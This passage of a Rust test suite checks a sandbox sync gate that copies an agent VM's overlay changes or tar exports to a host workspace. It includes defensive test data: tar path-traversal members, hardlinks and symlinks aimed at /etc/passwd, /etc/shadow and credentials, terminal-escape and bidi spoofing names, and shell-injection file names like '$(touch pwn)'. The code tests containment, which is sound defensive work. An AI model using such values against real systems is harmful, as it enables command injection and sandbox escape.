    }
    let before = g.snapshot();
    let expect = ["y1", "y2", "y3", "y4"].map(|d| (d, "E_OPAQUE_ANOMALY"));
    refused(&g, &g.sync(&["--yes"]), &before, &expect);
}

#[test]
fn b9_xattr_whiteout_in_an_opaque_x_directory_is_refused() {
    let g = Gate::new(&[("d/hideme", "h"), ("d/keep", "k")]);
    g.u_dir("d").xattr("d", "trusted.overlay.opaque", b"x");
    g.u("d/hideme", "").xattr("d/hideme", "trusted.overlay.whiteout", b"y");
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[("d", "E_XWHITEOUT"), ("d/hideme", "E_XWHITEOUT")]);
}

#[test]
fn b10_xattr_whiteout_without_opaque_x_is_refused() {
    let g = Gate::new(&[("d/hideme", "h")]);
    g.u("d/hideme", "").xattr("d/hideme", "trusted.overlay.whiteout", b"y");
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[("d/hideme", "E_XWHITEOUT")]);
}

#[test]
fn b11_whiteout_inside_an_opaque_directory_is_refused() {
    let g = Gate::new(&[("d/x", "x"), ("d/y", "y")]);
    g.opaque("d").whiteout("d/x").u("d/new", "n");
    let before = g.snapshot();
    // The spec's code is E_OPAQUE_ANOMALY; the gate says E_WHITEOUT_IN_OPAQUE.
    refused(&g, &g.sync(&["--yes"]), &before, &[("d/x", "OPAQUE")]);
}

#[test]
fn b12_user_namespace_opaque_on_a_trusted_mount_is_refused() {
    let files: Vec<(String, String)> = (0..20).map(|i| (format!("src/f{i:02}.rs"), format!("// {i}\n"))).collect();
    let g = Gate::empty();
    for (p, c) in &files {
        g.h(p, c);
    }
    g.baseline();
    // An unprivileged VM user can set `user.*`; the kernel ignores it on a trusted-mode mount.
    g.agent(|m| {
        xattr::set(m.join("src"), "user.overlay.opaque", b"y")?;
        std::fs::write(m.join("src/new.rs"), "// new\n")
    });
    assert_eq!(xattr::get(g.upper().join("src"), "user.overlay.opaque").expect("xattr"), Some(b"y".to_vec()));
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[("src", "E_WRONG_NS")]);
}

const USERXATTR: &str = "name: t\nextends: default\nworkspaces: [{host: ~/ws}]\nsync: {userxattr: true}\n";

#[test]
fn b13_trusted_namespace_on_a_userxattr_mount_is_refused() {
    let g = Gate::with_profile(USERXATTR);
    g.h("d/x", "x").h("e/y", "y");
    g.baseline();
    g.u_dir("d").xattr("d", "trusted.overlay.opaque", b"y").u_dir("e").xattr("e", "trusted.overlay.origin", b"");
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[("d", "E_WRONG_NS"), ("e", "E_WRONG_NS")]);
}

#[test]
fn b13_userxattr_mode_reads_the_user_markers() {
    let g = Gate::with_profile(USERXATTR);
    g.h("d/x", "x").h("d/y", "y").h("gone", "g");
    g.baseline();
    g.u_dir("d").xattr("d", "user.overlay.opaque", b"y").u("d/new", "n").whiteout("gone");
    applied(&g.sync(&["--yes"]));
    assert_eq!(g.tree(), lines(&["d/ 755", "d/new 644 n"]));
}

#[test]
fn b14_escaped_overlay_xattr_is_data_and_not_copied() {
    let g = Gate::new(&[("d/x", "x")]);
    g.agent(|m| {
        xattr::set(m.join("d"), "trusted.overlay.opaque", b"y")?;
        std::fs::write(m.join("d/new"), "n")
    });
    let stored = xattr::get(g.upper().join("d"), "trusted.overlay.overlay.opaque").expect("xattr");
    assert_eq!(stored, Some(b"y".to_vec()), "the kernel stored it escaped");
    let out = g.sync(&["--yes"]);
    applied(&out);
    assert!(out.stdout.contains("escaped overlay attribute"), "a warning: {}", out.all());
    assert_eq!(g.tree(), lines(&["d/ 755", "d/new 644 n", "d/x 644 x"]), "a merge, not a replace");
    let names: Vec<_> = xattr::list(g.host().join("d")).expect("list").collect();
    assert!(names.is_empty(), "{names:?}");
}

#[test]
fn b15_unknown_overlay_xattr_is_refused() {
    let g = Gate::new(&[("d/x", "x")]);
    g.u_dir("d").xattr("d", "trusted.overlay.foo", b"bar");
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[("d", "E_OVL_UNKNOWN")]);
}

#[test]
fn b16_opaque_on_a_file_is_refused() {
    let g = Gate::new(&[("f", "old")]);
    g.u("f", "new").xattr("f", "trusted.overlay.opaque", b"y");
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[("f", "E_OPAQUE_ANOMALY")]);
}

#[test]
fn b17_protattr_applies_the_content_but_never_the_flag() {
    let g = Gate::new(&[("f", "old")]);
    g.agent(|m| {
        std::fs::write(m.join("f"), "new")?;
        let status = Command::new("chattr").arg("+i").arg(m.join("f")).status()?;
        if status.success() { Ok(()) } else { Err(std::io::Error::other("chattr +i through the overlay failed")) }
    });
    assert!(xattr::get(g.upper().join("f"), "trusted.overlay.protattr").expect("xattr").is_some());
    let out = g.sync(&["--yes"]);
    applied(&out);
    assert!(out.stdout.contains("f: immutable/append-only flags set in the VM are not applied"), "{}", out.all());
    assert_eq!(g.tree(), lines(&["f 644 new"]));
    std::fs::write(g.host().join("f"), "still writable").expect("the host file is not immutable");
}

#[test]
fn b18_informational_xattrs_are_accepted_silently() {
    let g = Gate::new(&[("a", "A"), ("b", "B")]);
    g.xattr("", "trusted.overlay.uuid", b"0123456789abcdef").xattr("", "trusted.overlay.impure", b"y");
    g.u("a", "A2").xattr("a", "trusted.overlay.origin", b"\x00\xfb\x21\x01");
    let out = g.sync(&["--yes"]);
    applied(&out);
    assert!(!out.stdout.contains("notes:"), "{}", out.all());
    assert_eq!(g.tree(), lines(&["a 644 A2", "b 644 B"]));
}

#[test]
fn b19_whiteout_with_odd_metadata_is_still_a_whiteout() {
    let g = Gate::new(&[("a", "A"), ("b", "B")]);
    g.mknod("b", rustix::fs::FileType::CharacterDevice, 0o644, 0, 0);
    std::os::unix::fs::lchown(g.upper().join("b"), Some(1000), Some(1000)).expect("chown");
    g.xattr("b", "trusted.foo", b"bar");
    applied(&g.sync(&["--yes"]));
    assert_eq!(g.tree(), lines(&["a 644 A"]));
}

// ---------------------------------------------------------------------------------------------
// C. Transport and copy-out integrity (PAX tar streams).

#[test]
fn c1_stream_missing_entries_the_vm_declared_is_refused() {
    let g = Gate::new(&[("a", "A"), ("b", "B"), ("c", "C")]);
    let mut tar = Tar::new();
    tar.root().file("./a", "A2");
    // The VM counted two whiteouts that a non-root copy dropped.
    let before = g.snapshot();
    let out = g.sync_tar_counted(&tar.finish(), tar.entries + 2, tar.bytes, &["--yes"]);
    refused(&g, &out, &before, &[(".", "E_INCOMPLETE_TRANSPORT")]);
}

#[test]
fn c1_complete_gnu_tar_export_applies_like_the_directory() {
    let g = Gate::new(&[("a", "A\n"), ("b", "B\n"), ("d2/x", "x"), ("d3/y", "y"), ("src/main.rs", "fn main() {}\n")]);
    let merged = g.agent(|m| {
        std::fs::write(m.join("a"), "A\nmore\n")?;
        std::fs::remove_file(m.join("b"))?;
        std::fs::remove_dir_all(m.join("d2"))?;
        std::fs::remove_dir_all(m.join("d3"))?;
        std::fs::create_dir(m.join("d3"))?;
        std::fs::write(m.join("d3/new"), "n")?;
        std::os::unix::fs::symlink("src/main.rs", m.join("link"))
    });
    let stream = g.root().join("export.tar");
    let status = Command::new("tar")
        .args(["--xattrs", "--xattrs-include=*", "--numeric-owner", "-C"])
        .arg(g.upper())
        .arg("-cf")
        .arg(&stream)
        .arg(".")
        .status()
        .expect("GNU tar");
    assert!(status.success());
    let (mut entries, mut bytes) = (0, 0);
    for e in walkdir::WalkDir::new(g.upper()).min_depth(1) {
        let meta = e.expect("walk").path().symlink_metadata().expect("lstat");
        entries += 1;
        if meta.is_file() {
            bytes += meta.len();
        }
    }
    let stream = std::fs::read(&stream).expect("read");
    applied(&g.sync_tar_counted(&stream, entries, bytes, &["--yes"]));
    assert_eq!(g.tree(), merged);
}

#[test]
fn c3_member_path_traversal_is_refused() {
    let g = Gate::new(&[("a", "A")]);
    let absolute = g.outside().join("abs").display().to_string();
    let mut tar = Tar::new();
    tar.root().file("./a", "A2").file("../x", "x").file("a1/../../y", "y").file("a2//b", "b");
    tar.file_bytes(absolute.as_bytes(), b"abs");
    tar.pax(&[("path", b"../pax-x")]).file("innocent", "x");
    let before = g.snapshot();
    let expect = [
        ("../x", "E_PATH"),
        (absolute.as_str(), "E_PATH"),
        ("a1/../../y", "E_PATH"),
        ("a2//b", "E_PATH"),
        ("../pax-x", "E_PATH"),
    ];
    refused(&g, &g.sync_tar(&tar, &["--yes"]), &before, &expect);
}

#[test]
fn c4_duplicate_member_is_refused() {
    let g = Gate::new(&[("a", "A")]);
    let mut tar = Tar::new();
    tar.root().file("./a", "A2").symlink("./a", "b");
    let before = g.snapshot();
    refused(&g, &g.sync_tar(&tar, &["--yes"]), &before, &[("a", "E_PATH")]);
}

#[test]
fn c5_member_below_a_symlink_member_is_refused() {
    let g = Gate::new(&[("a", "A")]);
    let outside = g.outside().display().to_string();
    let mut tar = Tar::new();
    tar.root().symlink("./lnk", &outside).file("./lnk/f", "pwned");
    let before = g.snapshot();
    refused(&g, &g.sync_tar(&tar, &["--yes"]), &before, &[("lnk/f", "E_PATH"), ("lnk", "E_SYMLINK_ESCAPE")]);
    assert!(!g.outside().join("f").exists());
}

#[test]
fn c6_hardlink_members_to_anything_but_an_earlier_file_are_refused() {
    let g = Gate::new(&[("a", "A")]);
    let mut tar = Tar::new();
    tar.root().file("./ok", "ok").whiteout("./w");
    tar.hardlink("./h1", "../../etc/passwd").hardlink("./h2", "./later").hardlink("./h3", "./missing");
    tar.hardlink("./h4", "./w").hardlink("./h5", "/etc/passwd").file("./later", "l");
    let before = g.snapshot();
    let expect = ["h1", "h2", "h3", "h4", "h5"].map(|h| (h, "E_HARDLINK"));
    refused(&g, &g.sync_tar(&tar, &["--yes"]), &before, &expect);
}

#[test]
fn c6_hardlink_to_an_earlier_file_is_copied_not_linked() {
    let g = Gate::new(&[("a", "A")]);
    let mut tar = Tar::new();
    tar.root().file("./orig", "data").hardlink("./copy", "./orig");
    applied(&g.sync_tar(&tar, &["--yes"]));
    assert_eq!(g.tree(), lines(&["a 644 A", "copy 644 data", "orig 644 data"]));
    let (orig, copy) =
        (g.host().join("orig").metadata().expect("stat"), g.host().join("copy").metadata().expect("stat"));
    assert!(orig.ino() != copy.ino() || orig.nlink() == 2, "independent, or linked to each other only");
}

#[test]
fn c7_pax_header_abuse_is_refused() {
    let g = Gate::new(&[("a", "A")]);
    let before = g.snapshot();
    let mut duplicate = Tar::new();
    duplicate.root().pax(&[("path", b"a"), ("path", b"b")]).file("x", "x");
    let mut size = Tar::new();
    size.root().pax(&[("size", b"5")]).file("./a", "A2");
    let mut malformed = Tar::new();
    malformed.root().member(tar::EntryType::XHeader, b"./PaxHeaders/a", b"", 8, b"garbage\n").file("./a", "A2");
    let mut mixed = Tar::new();
    mixed.root().member(tar::EntryType::GNULongName, b"././@LongLink", b"", 4, b"./a\0");
    mixed.pax(&[("path", b"./b")]).file("./a", "A2");
    for (tar, why) in [
        (duplicate, "duplicate"),
        (size, "conflicts with the header size"),
        (malformed, "malformed"),
        (mixed, "two extension headers"),
    ] {
        let out = g.sync_tar(&tar, &["--yes"]);
        refused_saying(&g, &out, &before, &[(why, "E_ARCHIVE")]);
    }
}

#[test]
fn c8_truncated_stream_or_wrong_counts_are_refused() {
    let g = Gate::new(&[("a", "A")]);
    let before = g.snapshot();
    let mut cut = Tar::new();
    cut.root().member(tar::EntryType::Regular, b"./a", b"", 100, &[b'x'; 50]);
    let stream = cut.buf.clone();
    let out = g.sync_tar_counted(&stream[..stream.len() - 462], 1, 100, &["--yes"]);
    refused(&g, &out, &before, &[("a", "E_INCOMPLETE_TRANSPORT")]);
    // A deletion alone (nothing to stage): without its end marker, or with other counts.
    let mut whole = Tar::new();
    whole.root().whiteout("./a");
    let (stream, entries) = (whole.finish(), whole.entries);
    let out = g.sync_tar_counted(&stream[..whole.buf.len()], entries, 0, &["--yes"]);
    refused_saying(&g, &out, &before, &[("end-of-archive", "E_INCOMPLETE_TRANSPORT")]);
    let out = g.sync_tar_counted(&stream, entries + 1, 0, &["--yes"]);
    refused(&g, &out, &before, &[(".", "E_INCOMPLETE_TRANSPORT")]);
    let out = g.sync_tar_counted(&stream, entries, 1, &["--yes"]);
    refused(&g, &out, &before, &[(".", "E_INCOMPLETE_TRANSPORT")]);
    assert_eq!(g.sync_tar_counted(&stream, entries, 0, &["--dry-run"]).code, 0, "the same stream, complete");
}

#[test]
fn c9_non_utf8_pax_path_is_refused() {
    // APFS cannot store it, and the gate checks every host as if it were macOS.
    let g = Gate::new(&[("a", "A")]);
    let mut tar = Tar::new();
    tar.root().pax(&[("path", b"./\xff\xfe")]).file("./x", "x");
    let before = g.snapshot();
    refused_saying(&g, &g.sync_tar(&tar, &["--yes"]), &before, &[("not valid UTF-8", "E_PATH")]);
}

// ---------------------------------------------------------------------------------------------
// D. Paths and names.

#[test]
fn d1_newline_in_a_name_is_refused() {
    let g = Gate::new(&[("a", "A")]);
    g.u("a\nb", "x");
    let before = g.snapshot();
    refused_saying(&g, &g.sync(&["--yes"]), &before, &[("`a\\u{a}b` contains a line break", "E_NAME")]);
}

#[test]
fn d1_newline_in_a_name_is_never_printed_raw() {
    let g = Gate::new(&[("a", "A")]);
    g.u("x\n  delete  README.md", "x");
    let out = g.sync(&["--dry-run"]);
    assert!(!out.stdout.contains("x\n  delete  README.md"), "{}", out.all());
    let out = g.sync(&["--dry-run", "--json"]);
    assert!(!out.stdout.contains("x\n  delete"), "{}", out.all());
}

#[test]
fn d2_control_and_bidi_characters_in_names_are_refused_and_never_printed_raw() {
    let g = Gate::new(&[("README.md", "r")]);
    g.u("\x1b[2K\rREADME.md", "spoof").u("evil\u{202E}gnp.sh", "x");
    let before = g.snapshot();
    let out = g.sync(&["--yes"]);
    refused(&g, &out, &before, &[("\\u{1b}[2K\\u{d}README.md", "E_NAME"), ("evil\\u{202e}gnp.sh", "E_NAME")]);
    for raw in ['\x1b', '\r', '\u{202E}'] {
        assert!(!out.stdout.contains(raw) && !out.stderr.contains(raw), "{raw:?} printed raw: {}", out.all());
    }
}

#[test]
fn d3_invalid_utf8_name_is_refused() {
    use std::os::unix::ffi::OsStrExt;
    let g = Gate::new(&[("a", "A")]);
    std::fs::write(g.upper().join(std::ffi::OsStr::from_bytes(b"\xff\xfe")), "x").expect("write");
    g.u("ok", "ok");
    let before = g.snapshot();
    refused_saying(&g, &g.sync(&["--yes"]), &before, &[("not valid UTF-8", "E_NAME")]);
}

#[test]
fn d4_overlong_names_are_refused_up_front() {
    let g = Gate::new(&[("a", "A")]);
    let ascii = "n".repeat(256);
    let wide = "\u{20ac}".repeat(100);
    let mut tar = Tar::new();
    tar.root().file("./a", "A2").pax(&[("path", format!("./{ascii}").as_bytes())]).file("./x", "x");
    tar.pax(&[("path", format!("./{wide}").as_bytes())]).file("./y", "y");
    let before = g.snapshot();
    let expect = [(ascii.as_str(), "E_NAME_LENGTH"), (wide.as_str(), "E_NAME_LENGTH")];
    refused(&g, &g.sync_tar(&tar, &["--yes"]), &before, &expect);
}

#[test]
fn d5_long_path_within_path_max_is_applied() {
    let g = Gate::new(&[("a", "A")]);
    let long: Vec<String> = (0..55).map(|i| format!("{i:02}{}", "d".repeat(61))).collect();
    let path = format!("{}/f", long.join("/"));
    assert!(path.len() > 3500);
    g.u(&path, "deep");
    applied(&g.sync(&["--yes"]));
    assert_eq!(std::fs::read_to_string(g.host().join(&path)).expect("written"), "deep");
    assert_eq!(g.tree().len(), 57, "55 directories, the file and `a`");
}

#[test]
fn d5_path_past_path_max_is_refused_up_front() {
    // Beyond Linux PATH_MAX (within the depth limit): refused before any write, never half-applied.
    let g = Gate::new(&[("a", "A")]);
    let longer: Vec<String> = (0..60).map(|i| format!("{i:02}{}", "e".repeat(68))).collect();
    let path = format!("./{}/f", longer.join("/"));
    let mut tar = Tar::new();
    tar.root().file("./a", "A3").pax(&[("path", path.as_bytes())]).file("./x", "x");
    let before = g.snapshot();
    refused_saying(&g, &g.sync_tar(&tar, &["--yes"]), &before, &[("is longer than 4096 bytes", "E_NAME_LENGTH")]);
}

#[test]
fn d6_shell_hostile_names_are_applied_literally() {
    let g = Gate::new(&[("a", "A")]);
    let names = ["-rf", "--help", "*", "$(touch pwn)", "~", ";touch pwn2", "`touch pwn3`"];
    for name in names {
        g.u(name, "literal");
    }
    applied(&g.sync(&["--yes"]));
    let mut expect: Vec<String> = names.iter().map(|n| format!("{n} 644 literal")).collect();
    expect.push("a 644 A".into());
    expect.sort();
    assert_eq!(g.tree(), expect);
    for pwn in ["pwn", "pwn2", "pwn3"] {
        assert!(!g.home().join(pwn).exists() && !g.host().join(pwn).exists(), "{pwn}");
    }
}

#[test]
fn d7_temp_names_never_clobber_host_files() {
    let g = Gate::new(&[("a", "A")]);
    g.u("a", "A2");
    // `exec` keeps the shell's pid, so the file is named exactly as the gate's temp file will be.
    let mut args = vec!["-c".to_owned(), "printf 'host data' > ws/.sandbox-sync-$$.tmp && exec \"$0\" \"$@\"".into()];
    args.push(env!("CARGO_BIN_EXE_sandbox").into());
    args.extend(g.sync_args(&["--yes"]));
    let output = g.command(Path::new("sh")).args(&args).output().expect("sh");
    assert_eq!(output.status.code(), Some(0), "{}", String::from_utf8_lossy(&output.stderr));
    assert_eq!(std::fs::read_to_string(g.host().join("a")).expect("a"), "A2");
    let kept: Vec<String> = g.tree().into_iter().filter(|l| l.starts_with(".sandbox-sync-")).collect();
    assert_eq!(kept.len(), 1, "the host file the VM never saw survives: {:?}", g.tree());
    assert!(kept[0].ends_with(" 644 host data"), "{kept:?}");
}

#[test]
fn d8_aufs_looking_names_are_ordinary_files() {
    let g = Gate::new(&[("foo", "F"), ("d/x", "x")]);
    g.u(".wh.foo", "w").u_dir("d").u("d/.wh..wh..opq", "");
    applied(&g.sync(&["--yes"]));
    assert_eq!(g.tree(), lines(&[".wh.foo 644 w", "d/ 755", "d/.wh..wh..opq 644 ", "d/x 644 x", "foo 644 F"]));
}

#[test]
fn d9_names_windows_and_smb_would_alter_are_refused() {
    let g = Gate::new(&[("a", "A")]);
    g.u("...", "x").u(" ", "x").u("trailing-space ", "x");
    let before = g.snapshot();
    let expect =
        [("`...` ends with a dot", "E_NAME"), ("` ` ends with", "E_NAME"), ("`trailing-space ` ends", "E_NAME")];
    refused_saying(&g, &g.sync(&["--yes"]), &before, &expect);
}

#[test]
fn d10_ntfs_aliases_are_refused() {
    // Reserved device names (`CON`, `aux.txt`) are accepted by design: hosts are Linux or macOS.
    let g = Gate::new(&[("a", "A")]);
    g.u("GIT~1/config", "[core]\n").u("foo.", "x");
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[("GIT~1/config", "E_GIT_PATH"), ("foo.", "E_NAME")]);
}

// ---------------------------------------------------------------------------------------------
// E. Symlinks.

#[test]
fn e1_absolute_symlink_is_refused() {
    let g = Gate::new(&[("a", "A")]);
    g.u_link("x", "/etc/shadow");
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[("x", "E_SYMLINK_ESCAPE")]);
}

#[test]
fn e2_relative_symlink_escaping_the_workspace_is_refused() {
    let g = Gate::new(&[("a", "A")]);
    g.u_link("d/evil_rel", "../../../../etc/shadow").u_link("up", "../outside/credentials");
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[("d/evil_rel", "E_SYMLINK_ESCAPE"), ("up", "E_SYMLINK_ESCAPE")]);
}

#[test]
fn e3_in_tree_symlink_is_created_verbatim() {
    let g = Gate::new(&[("v2/index.md", "v2"), ("docs/readme", "r")]);
    g.u_dir("docs").u_link("docs/latest", "../v2");
    applied(&g.sync(&["--yes"]));
    assert_eq!(
        g.tree(),
        lines(&["docs/ 755", "docs/latest -> ../v2", "docs/readme 644 r", "v2/ 755", "v2/index.md 644 v2"])
    );
}

#[test]
fn e4_chained_symlink_escape_is_refused() {
    let g = Gate::new(&[("a", "A")]);
    g.u_link("r", ".").u_link("esc", "r/..");
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[("esc", "E_SYMLINK_ESCAPE")]);
}

#[test]
fn e5_symlink_loop_is_refused_quickly() {
    let g = Gate::new(&[("a", "A")]);
    g.u_link("a1", "b1").u_link("b1", "a1");
    let before = g.snapshot();
    let out = g.sync_within(&["--yes"], Duration::from_secs(20)).expect("no hang");
    refused(&g, &out, &before, &[("a1", "E_SYMLINK_LOOP"), ("b1", "E_SYMLINK_LOOP")]);
}

#[test]
fn e6_host_symlink_replaced_by_a_directory_is_never_followed() {
    let g = Gate::empty();
    g.h_link("docs", &g.outside().display().to_string());
    g.baseline();
    g.opaque("docs").u("docs/a.md", "a");
    let before = g.snapshot();
    applied(&g.sync(&["--yes"]));
    assert_eq!(g.tree(), lines(&["docs/ 755", "docs/a.md 644 a"]));
    let after = g.snapshot();
    for (path, what) in before.iter().filter(|(p, _)| !p.starts_with("ws") && !p.is_empty()) {
        assert_eq!(after.get(path), Some(what), "{path}");
    }
    assert!(!g.outside().join("a.md").exists());
}

#[test]
fn e7_symlinked_parent_created_on_the_host_is_refused() {
    let g = Gate::new(&[("src/main.rs", "fn main() {}\n"), ("a", "A")]);
    std::fs::rename(g.host().join("src"), g.home().join("other")).expect("move");
    g.h_link("src", &g.home().join("other").display().to_string());
    g.u_dir("src").u("src/main.rs", "fn main() { evil() }\n");
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[("src", "host")]);
    assert_eq!(std::fs::read_to_string(g.home().join("other/main.rs")).expect("read"), "fn main() {}\n");
}

#[test]
fn e8_symlink_into_git_is_refused() {
    let g = Gate::new(&[(".git/hooks/pre-commit.sample", "#!/bin/sh\n"), ("a", "A")]);
    g.u_link("hooks", ".git/hooks").u_link("x", ".GIT");
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[("hooks", "E_GIT_PATH"), ("x", "E_GIT_PATH")]);
}

#[test]
fn e9_pathological_symlink_targets_are_refused() {
    let g = Gate::new(&[("a", "A")]);
    g.u_link("nl", "a\nb").u_link("long", &"x/".repeat(1000));
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[("nl", "E_SYMLINK_TARGET"), ("long", "E_SYMLINK_TARGET")]);
    let mut huge = Tar::new();
    huge.root().pax(&[("linkpath", "y/".repeat(2500).as_bytes())]).symlink("./huge", "placeholder");
    refused(&g, &g.sync_tar(&huge, &["--yes"]), &before, &[("huge", "E_SYMLINK_TARGET")]);
    let mut empty = Tar::new();
    empty.root().symlink("./empty", "");
    refused(&g, &g.sync_tar(&empty, &["--yes"]), &before, &[("./empty", "E_ARCHIVE")]);
}

#[test]
fn e10_file_to_symlink_over_a_host_edit_is_a_conflict() {
    let g = Gate::new(&[("conf", "base"), ("conf.d/x", "x")]);
    g.h("conf", "host edit");
    g.u_link("conf", "conf.d/x");
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[("conf", "changed on the host")]);
}

#[test]
fn e11_host_symlink_to_a_secret_is_replaced_not_written_through() {
    let g = Gate::empty();
    g.h_link("config.json", &g.outside().join("credentials").display().to_string());
    g.baseline();
    g.u("config.json", "{}\n");
    let before = g.snapshot();
    applied(&g.sync(&["--yes"]));
    assert_eq!(g.tree(), lines(&["config.json 644 {}\n"]));
    assert_eq!(g.snapshot()["outside/credentials"], before["outside/credentials"]);
}

// ---------------------------------------------------------------------------------------------
// F. Hardlinks and special files.

#[test]
fn f1_new_hardlinked_pair_is_created_within_the_tree() {
    let g = Gate::new(&[("a", "A")]);
    g.agent(|m| {
        std::fs::create_dir(m.join("hl"))?;
        std::fs::write(m.join("hl/one"), "data")?;
        std::fs::hard_link(m.join("hl/one"), m.join("hl/two"))
    });
    assert_eq!(g.upper().join("hl/one").metadata().expect("stat").nlink(), 2);
    applied(&g.sync(&["--yes"]));
    assert_eq!(g.tree(), lines(&["a 644 A", "hl/ 755", "hl/one 644 data", "hl/two 644 data"]));
    let stat = |p: &str| g.host().join(p).metadata().expect("stat");
    let (one, two, a) = (stat("hl/one"), stat("hl/two"), stat("a"));
    assert!(one.ino() != a.ino() && two.ino() != a.ino() && a.nlink() == 1, "never linked to a host inode");
    assert!(one.ino() != two.ino() || one.nlink() == 2);
}

#[test]
fn f2_host_file_with_other_links_is_replaced_by_rename() {
    let g = Gate::empty();
    g.h("hl1", "hl");
    std::fs::hard_link(g.host().join("hl1"), g.host().join("hl2")).expect("link");
    g.baseline();
    let ino = g.host().join("hl2").metadata().expect("stat").ino();
    g.u("hl1", "changed");
    applied(&g.sync(&["--yes"]));
    assert_eq!(g.tree(), lines(&["hl1 644 changed", "hl2 644 hl"]));
    assert_eq!(g.host().join("hl2").metadata().expect("stat").ino(), ino);
}

#[test]
fn f2_host_file_with_other_links_is_replaced_with_a_warning() {
    let g = Gate::empty();
    g.h("hl1", "hl");
    std::fs::hard_link(g.host().join("hl1"), g.host().join("hl2")).expect("link");
    g.baseline();
    g.u("hl1", "changed");
    let out = g.sync(&["--yes"]);
    applied(&out);
    assert!(out.stdout.lines().any(|l| l.contains("hl1") && l.contains("link")), "a warning\n{}", out.all());
}

#[test]
fn f3_host_hardlink_to_a_file_outside_is_never_written_through() {
    let g = Gate::empty();
    put(&g.outside(), "bashrc", b"export PS1='$ '\n");
    std::fs::hard_link(g.outside().join("bashrc"), g.host().join("notes.txt")).expect("link");
    g.baseline();
    g.u("notes.txt", "new notes\n");
    applied(&g.sync(&["--yes"]));
    assert_eq!(g.tree(), lines(&["notes.txt 644 new notes\n"]));
    assert_eq!(std::fs::read_to_string(g.outside().join("bashrc")).expect("read"), "export PS1='$ '\n");
    let (notes, bashrc) = (g.host().join("notes.txt").metadata(), g.outside().join("bashrc").metadata());
    assert_ne!(notes.expect("stat").ino(), bashrc.expect("stat").ino(), "replaced by rename");
}

#[test]
fn f4_real_device_nodes_are_refused() {
    let g = Gate::new(&[("a", "A")]);
    g.mknod("null", rustix::fs::FileType::CharacterDevice, 0o666, 1, 3);
    g.mknod("sda", rustix::fs::FileType::BlockDevice, 0o660, 8, 0);
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[("null", "E_SPECIAL"), ("sda", "E_SPECIAL")]);
}

#[test]
fn f5_fifo_is_refused_without_blocking() {
    let g = Gate::new(&[("a", "A")]);
    g.mknod("p", rustix::fs::FileType::Fifo, 0o644, 0, 0).u("a", "A2");
    let before = g.snapshot();
    let out = g.sync_within(&["--yes"], Duration::from_secs(20)).expect("the gate never opens the FIFO");
    refused(&g, &out, &before, &[("p", "E_SPECIAL")]);
}

#[test]
fn f6_unix_socket_is_refused() {
    let g = Gate::new(&[("a", "A")]);
    drop(std::os::unix::net::UnixListener::bind(g.upper().join("sock")).expect("bind"));
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[("sock", "E_SPECIAL")]);
}

#[test]
fn f7_file_with_links_outside_the_upper_is_refused_or_warned() {
    let g = Gate::new(&[("a", "A")]);
    g.u("f", "data");
    std::fs::hard_link(g.upper().join("f"), g.root().join("index/00fb")).expect("link");
    let before = g.snapshot();
    let out = g.sync(&["--yes"]);
    let warned = out.stdout.lines().any(|l| l.contains("f") && (l.contains("link") || l.contains("E_INDEX")));
    assert!(warned, "the upper is incomplete: refuse (E_INDEX) or at least warn\n{}", out.all());
    if out.code != 0 {
        refused(&g, &out, &before, &[("f", "E_INDEX")]);
    }
}

// ---------------------------------------------------------------------------------------------
// G. Permissions, ownership, xattrs, times.

#[test]
fn g1_setuid_and_setgid_are_refused() {
    let g = Gate::new(&[("a", "A")]);
    g.u("suid", "bin").u_mode("suid", 0o6755).u_dir("sgid").u_mode("sgid", 0o2755).u_dir("tmp").u_mode("tmp", 0o1777);
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[("suid", "E_MODE"), ("sgid", "E_MODE"), ("tmp", "E_MODE")]);
}

#[test]
fn g2_world_writable_files_are_normalised() {
    let g = Gate::new(&[("a", "A")]);
    g.u("w.txt", "w").u_mode("w.txt", 0o666).u("g.txt", "g").u_mode("g.txt", 0o664);
    applied(&g.sync(&["--yes"]));
    assert_eq!(g.tree(), lines(&["a 644 A", "g.txt 644 g", "w.txt 644 w"]));
}

#[test]
fn g2_world_writable_directories_are_normalised() {
    let g = Gate::new(&[("shared/x", "x")]);
    g.u_dir("shared").u_mode("shared", 0o777).u("pub/f", "f").u_mode("pub", 0o777);
    // A user whose umask is 0 must not get world-writable directories from the VM either.
    let mut args = vec!["-c".to_owned(), "umask 000 && exec \"$0\" \"$@\"".into()];
    args.push(env!("CARGO_BIN_EXE_sandbox").into());
    args.extend(g.sync_args(&["--yes"]));
    let output = g.command(Path::new("sh")).args(&args).output().expect("sh");
    assert_eq!(output.status.code(), Some(0), "{}", String::from_utf8_lossy(&output.stderr));
    let tree = g.tree();
    assert_eq!(tree.len(), 4, "{tree:?}");
    for line in &tree {
        let mode = line.split(' ').nth(1).and_then(|m| u32::from_str_radix(m, 8).ok()).expect("mode");
        assert_eq!(mode & 0o022, 0, "no group/world-writable entries from the VM: {tree:?}");
    }
}

#[test]
fn g3_file_capabilities_are_dropped() {
    let g = Gate::new(&[("a", "A")]);
    // vfs_cap_data v2: effective, permitted = CAP_NET_RAW.
    let cap: Vec<u8> = [0x0200_0001u32, 1 << 13, 0, 0, 0].iter().flat_map(|w| w.to_le_bytes()).collect();
    g.u("tool", "bin").xattr("tool", "security.capability", &cap);
    let out = g.sync(&["--yes"]);
    applied(&out);
    assert!(out.stdout.contains("tool: file capabilities are dropped"), "{}", out.all());
    assert_eq!(xattr::get(g.host().join("tool"), "security.capability").expect("xattr"), None);
